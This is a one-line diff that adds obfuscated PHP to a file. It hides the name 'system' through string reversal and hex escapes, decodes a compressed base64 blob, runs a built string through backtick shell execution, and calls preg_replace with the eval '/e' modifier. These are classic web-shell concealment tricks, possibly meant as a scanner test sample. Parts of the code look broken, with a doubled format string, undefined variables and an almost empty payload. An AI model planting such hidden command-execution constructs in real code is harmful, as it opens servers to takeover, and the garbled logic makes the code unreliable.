@@ -1,0 +1,1 @@
+$a = strrev("metsys"); $a = "\x73"."ys"; $b = gzinflate(base64_decode("S0vNyckHAA==")); for ($i = 0; $i < 9; $i++) { $c = sprintf("%%s%%c", $c, 97 + $i); } echo `$c`; usort($d, $a); preg_replace("/x/e", $b, $c);
